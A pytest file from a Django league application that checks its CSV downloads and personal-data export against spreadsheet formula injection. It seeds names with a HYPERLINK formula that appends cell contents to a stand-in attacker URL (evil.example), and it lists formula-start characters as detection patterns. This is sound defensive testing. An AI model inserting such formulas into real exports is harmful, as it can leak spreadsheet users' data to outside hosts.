"""Spreadsheet formulas in names and reasons: no file has a cell that a spreadsheet would run, with any separator of the
spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from itertools import cycle
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from games.closing.services import evening_close
from games.models import Table
from league.luck.services import count_club
from league.models import Cup, Evening, Player
from league.standings.counting import count_season
from league.web import csv_download
from tests.cast import House, cast
from tests.factories import FAILED, MADE, create_table, enter, void
from tests.member_fees import member_fee
from tests.permissions import ROUTES
from tests.tournaments.cup_of_clubs import counted, cup_of, finished

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = 'HYPERLINK("https://evil.example/?"&A1;"Anna")'
FILES = sorted(name for name in ROUTES if "csv" in name)
CASES = [(name, query) for name in FILES for query in ("", "?for=excel") if not (query and name.startswith("api-"))]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
STYLES = ("{}", "A;{}", 'A\t "{}', "A, {}")
"""How a name begins a cell: at its start, or behind a character that another separator makes the end of a cell."""
SHORT = 40


@pytest.fixture
def house() -> House:
    """A club in which every text of a person is a formula."""
    house = cast().home
    table = create_table(club=house.club, season=house.season, author=house.owner, seats=7)
    for player, start, style in zip(Player.objects.filter(club=house.club).order_by("pk"), STARTS, cycle(STYLES)):
        player.nickname = player.pseudonym = style.format(start + FORMULA)[:SHORT]
        player.publicity = "pseudonym"
        player.save()
    house.owner.first_name = "=" + FORMULA[:20]
    house.owner.save()
    house.club.name = house.club.place = "@" + FORMULA
    house.club.save()
    for record in (MADE, FAILED, MADE):
        enter(table, record, author=house.owner)
    void(table, author=house.owner)
    enter(table, MADE, author=house.owner)
    evening_close(evening=table.evening, author=house.owner, key=uuid.uuid4())
    Evening.objects.filter(pk=table.evening_id).update(final_at=None)
    count_season(house.season.pk)
    count_club(house.club.pk)
    players = Player.objects.filter(club=house.club).order_by("pk")
    counted(cup_of(house.club, name="=" + FORMULA), finished(house.club, list(players), name="@" + FORMULA))
    member_fee(house)
    return house


def address(name: str, house: House) -> str:
    table = Table.objects.get(evening__club=house.club, evening__season__in_chips=False)
    names: dict[str, dict[str, Any]] = {
        "season": {"season": house.season.slug},
        "evening": {"evening": table.evening_id},
        "player": {"player": table.dealer_id},
        "cup": {"cup": Cup.objects.get(owner=house.club).slug},
        "": {},
    }
    return reverse(name, kwargs={"club": house.club.slug, **names[ROUTES[name].names]})  # type: ignore[union-attr]


def text_of(answer: Any) -> str:
    assert answer.status_code == 200
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return str(body.decode("utf-8-sig"))


def dangerous(text: str) -> list[str]:
    """Return the cells that a spreadsheet takes for a formula, with any separator and any dropped characters."""
    cells = [cell.lstrip(' "') for cell in re.split(r"[,;|\t\r\n]", text)]
    return [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell.rstrip('"'))]


@pytest.mark.parametrize(("name", "query"), CASES)
def test_no_file_has_a_formula(house: House, name: str, query: str) -> None:
    client = Client()
    client.force_login(house.owner)
    text = text_of(client.get(address(name, house) + query))
    assert dangerous(text) == []
    if "ledger" not in name and "log" not in name:
        assert "HYPERLINK" in text


def test_the_personal_data_export_has_no_formula(house: House) -> None:
    mine = Player.objects.filter(club=house.club).earliest("pk")
    Player.objects.filter(pk=mine.pk).update(user=house.owner)
    client = Client()
    client.force_login(house.owner)
    answer = client.get(reverse("account-data-file"))
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    with zipfile.ZipFile(io.BytesIO(body)) as files:
        sheets = {name: files.read(name).decode("utf-8-sig") for name in files.namelist() if name.endswith(".csv")}
    assert sheets
    for name, text in sheets.items():
        assert dangerous(text) == [], name


@pytest.mark.parametrize(
    ("guard", "nothing"), [("FORMULA_STARTS", ("never",)), ("HIDDEN_START", re.compile("(n)(ev)(er)"))]
)
def test_without_a_guard_files_have_formulas(
    house: House, monkeypatch: pytest.MonkeyPatch, guard: str, nothing: Any
) -> None:
    monkeypatch.setattr(csv_download, guard, nothing)
    client = Client()
    client.force_login(house.owner)
    assert dangerous(text_of(client.get(address("standings-csv", house))))


@pytest.mark.parametrize("start", STARTS)
def test_each_start_of_a_formula_gets_a_mark(start: str) -> None:
    assert csv_download.guarded(start + "1+1") == "'" + start + "1+1"


SIGNS = [start for start in STARTS if not start.isspace()]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|", "\n", "\r", "\u2028"])
@pytest.mark.parametrize("between", ["", " ", '"', '" "', "\xa0", "\u200b", "\ufeff"])
def test_a_start_behind_another_separator_gets_a_mark(separator: str, between: str) -> None:
    for sign in SIGNS:
        text = f"Anna{separator}{between}{sign}1+1"
        assert csv_download.guarded(text) == f"Anna{separator}{between}'{sign}1+1"


@pytest.mark.parametrize("text", ["Anna", "B. - C.", "a@b", "1-2", "Anna, Beni; Carlo", "x=1", "'=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert csv_download.guarded(text) == text


def test_every_text_is_in_quotes() -> None:
    day = datetime(2026, 11, 20, 20, 4, 10, tzinfo=UTC)
    values = ['An"na', "", None, True, -120, Decimal("-3.20"), day.date(), day]
    assert csv_download.line(values) == '"An""na",,,1,-120,-3.20,2026-11-20,2026-11-20T21:04:10+01:00\r\n'
    assert next(csv.reader([csv_download.line(values, ";")], delimiter=";"))[0] == 'An"na'
